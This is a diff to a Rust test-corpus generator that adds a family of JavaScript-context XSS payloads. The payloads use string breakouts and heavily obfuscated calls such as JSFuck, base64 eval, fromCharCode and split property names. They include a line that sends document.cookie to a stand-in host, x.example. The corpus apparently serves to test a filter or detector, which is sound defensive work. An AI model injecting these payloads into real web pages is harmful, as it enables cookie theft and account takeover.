@@ -52,7 +52,8 @@ type Generator = fn(&mut Rng) -> String;
 
 /// `per_family` attacks of each family, from `seed`.
 pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
-    let families: [(&'static str, Generator); 11] = [
+    // A new family goes last: each family's stream depends on its index.
+    let families: [(&'static str, Generator); 12] = [
         ("sqli", sqli),
         ("xss", xss),
         ("lfi", lfi),
@@ -64,6 +65,7 @@ pub fn attacks(seed: u64, per_family: usize) -> Vec<Attack> {
         ("node", node),
         ("proto", proto_path),
         ("php", php),
+        ("xss-js", xss_js),
     ];
     let mut out = Vec::new();
     for (index, (family, generate)) in (0u64..).zip(families) {
@@ -335,6 +337,152 @@ fn js_call(rng: &mut Rng) -> String {
         6 => format!("location='//x.example/?'+{arg}"),
         _ => format!("setTimeout('{sink}({arg})')"),
     }
+}
+
+/// XSS that lands inside a script: a breakout from a JavaScript string
+/// (`'`, `"`, a template, with or without a backslash before the quote,
+/// closing brackets after it), an operator joining the payload to the
+/// expression, a script call in one of its obfuscations, and a tail that
+/// keeps the rest of the script valid; or, as an expression of its own, a
+/// call that runs code. Built from the parts, not listed.
+fn xss_js(rng: &mut Rng) -> String {
+    let call = obfuscated_call(rng);
+    let gap = rng.pick(&["", "", " ", "\n", "/**/"]);
+    if rng.chance(20) {
+        // The value is the expression (`var x = VALUE;`).
+        return code_running_call(rng);
+    }
+    let quote = rng.pick(&["'", "\"", "`"]);
+    if quote == "`" && rng.chance(40) {
+        return format!("${{{gap}{call}{gap}}}");
+    }
+    let escape = if rng.chance(25) { "\\" } else { "" };
+    let closers = rng.pick(&["", "", "", ")", "}", "]", "))", "})"]);
+    let joiner = rng.pick(&[";", ";", "-", "+", "*", ",", "||", "&&", "==", "?", "}"]);
+    let tail = match rng.below(4) {
+        0 => "//".to_owned(),
+        1 => format!("{joiner}{quote}"),
+        2 => format!(";var x{gap}={gap}{quote}"),
+        _ => "<!--".to_owned(),
+    };
+    format!("{escape}{quote}{closers}{gap}{joiner}{gap}{call}{gap}{tail}")
+}
+
+/// A script call: a sink and an argument, called in one of the ways that
+/// avoid a plain `alert(`.
+fn obfuscated_call(rng: &mut Rng) -> String {
+    let sink = rng.pick(&["alert", "prompt", "confirm", "print", "eval", "fetch"]);
+    let arg = rng.pick(&[
+        "1",
+        "document.domain",
+        "document.cookie",
+        "'x'",
+        "/x/.source",
+    ]);
+    let split = 1 + rng.below(sink.len() - 1);
+    let (head, rest) = sink.split_at(split);
+    match rng.below(12) {
+        0 => format!("{sink}({arg})"),
+        1 => format!("{sink}`{arg}`"),
+        2 => format!("{}['{head}'+'{rest}']({arg})", global(rng)),
+        3 => format!("{}[/{head}/.source+/{rest}/.source]({arg})", global(rng)),
+        4 => format!("[{arg}].find({sink})"),
+        5 => format!("(0,{sink})({arg})"),
+        6 => format!("{sink}.call(null,{arg})"),
+        7 => format!(
+            "\\u{:04x}{}({arg})",
+            u32::from(sink.as_bytes()[0]),
+            &sink[1..]
+        ),
+        8 => format!("{}[{}]({arg})", global(rng), jsfuck_string(sink)),
+        9 => format!("location='//x.example/?'+{arg}"),
+        10 => format!("window.onerror={sink};throw {arg}"),
+        _ => code_running_call(rng),
+    }
+}
+
+/// A call that runs code from a string or opens the page's objects, or
+/// calls a function without parentheses: the calls that count even
+/// without a breakout.
+fn code_running_call(rng: &mut Rng) -> String {
+    let code = format!(
+        "{}({})",
+        rng.pick(&["alert", "prompt", "confirm"]),
+        rng.pick(&["1", "document.domain"])
+    );
+    let dialog = rng.pick(&["alert", "prompt", "confirm"]);
+    match rng.below(10) {
+        0 => format!("eval(atob('{}'))", base64(code.as_bytes())),
+        8 => format!("onerror={dialog};throw 1"),
+        9 => format!("[].sort.call`${{{dialog}}}1`"),
+        1 => format!("settimeout('{code}')"),
+        2 => format!("setInterval`{code}`"),
+        3 => format!("Function('{code}')()"),
+        4 => format!("[].constructor.constructor('{code}')()"),
+        5 => format!("{}['ev'+'al']('{code}')", global(rng)),
+        6 => format!("document.write('<img src=x onerror={code}>')"),
+        _ => format!("eval(String.fromCharCode({}))", char_codes(&code)),
+    }
+}
+
+/// One of the names of the page's global object.
+fn global(rng: &mut Rng) -> &'static str {
+    rng.pick(&[
+        "window",
+        "top",
+        "self",
+        "parent",
+        "frames",
+        "globalThis",
+        "this",
+    ])
+}
+
+/// `text` as `JSFuck`: each letter taken from `false`, `true`, `undefined`
+/// or `NaN` written with `[]`, `!`, `+`, `(` and `)` only.
+fn jsfuck_string(text: &str) -> String {
+    let number = |n: usize| match n {
+        0 => "+[]".to_owned(),
+        1 => "+!+[]".to_owned(),
+        _ => vec!["!+[]"; n].join("+"),
+    };
+    let words = ["(![]+[])", "(!![]+[])", "([][[]]+[])", "(+[![]]+[])"];
+    let spelled = ["false", "true", "undefined", "nan"];
+    text.chars()
+        .map(|c| {
+            spelled
+                .iter()
+                .zip(words)
+                .find_map(|(word, code)| word.find(c).map(|at| format!("{code}[{}]", number(at))))
+                .unwrap_or_else(|| format!("'{c}'"))
+        })
+        .collect::<Vec<_>>()
+        .join("+")
+}
+
+/// The decimal character codes of `text`, comma-separated.
+fn char_codes(text: &str) -> String {
+    text.bytes()
+        .map(|b| b.to_string())
+        .collect::<Vec<_>>()
+        .join(",")
+}
+
+/// Standard base64 with padding.
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(char::from(ALPHABET[(n >> (18 - 6 * k)) as usize & 63]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
 }
 
 /// A blank between a tag's name and attributes, or between attributes:
